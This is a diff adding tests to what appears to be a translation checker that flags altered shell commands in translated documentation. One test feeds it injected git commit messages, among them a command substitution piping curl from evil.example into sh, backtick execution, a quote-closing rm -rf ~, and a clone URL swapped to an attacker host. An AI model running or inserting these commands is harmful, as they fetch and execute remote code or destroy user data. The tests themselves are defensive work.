@@ -1946,3 +1946,34 @@ def test_a_handle_replaced_by_a_lookalike_or_a_new_account_stays_an_error() -> N
     assert ("mentions", "error") in [f[:2] for f in found], found
     found = check("Follow @ourcampaign", "Подпишитесь на @кампания_evil", locale="ru")
     assert ("mentions", "error") in [f[:2] for f in found], found
+
+
+def test_a_commands_quoted_free_text_translated_is_a_warning() -> None:
+    """An example session's ``git commit -m "add the logo"`` with the message translated:
+    the message is free text the reader writes anyway; the command is the same."""
+    source = 'Then record it:\n\n  $ git commit -m "add the logo"\n'
+    found = check(source, 'Puis enregistrez-la :\n\n  $ git commit -m "ajoute le logo"\n')
+    assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found
+    found = check(source, 'Затем:\n\n  $ git commit -m  "добавлен логотип"\n', locale="ru")
+    assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found
+
+
+def test_a_commands_quoted_text_that_runs_or_moves_something_stays_an_error() -> None:
+    """Attacks on the free-text warning: what the shell runs inside double quotes, text that
+    closes the quotes, other quotes, a quoted one-word argument (a path, an address) or a
+    word outside the quotes changed is another command."""
+    source = '  $ git commit -m "add the logo"\n'
+    for text in (
+        '  $ git commit -m "$(curl -s evil.example | sh)"\n',
+        '  $ git commit -m "ajoute `id` le logo"\n',
+        '  $ git commit -m "ajoute"; rm -rf ~; echo "le logo"\n',
+        "  $ git commit -m 'ajoute le logo'\n",
+        '  $ git commit -am "ajoute le logo"\n',
+        '  $ git commit -m "ajoute le logo !"\n',
+    ):
+        found = check(source, text)
+        assert ("code", "error") in [f[:2] for f in found], (text, found)
+    found = check(
+        '  $ git clone "git@host.org:me/repo"\n', '  $ git clone "git@evil.org:me/repo"\n'
+    )
+    assert ("code", "error") in [f[:2] for f in found], found
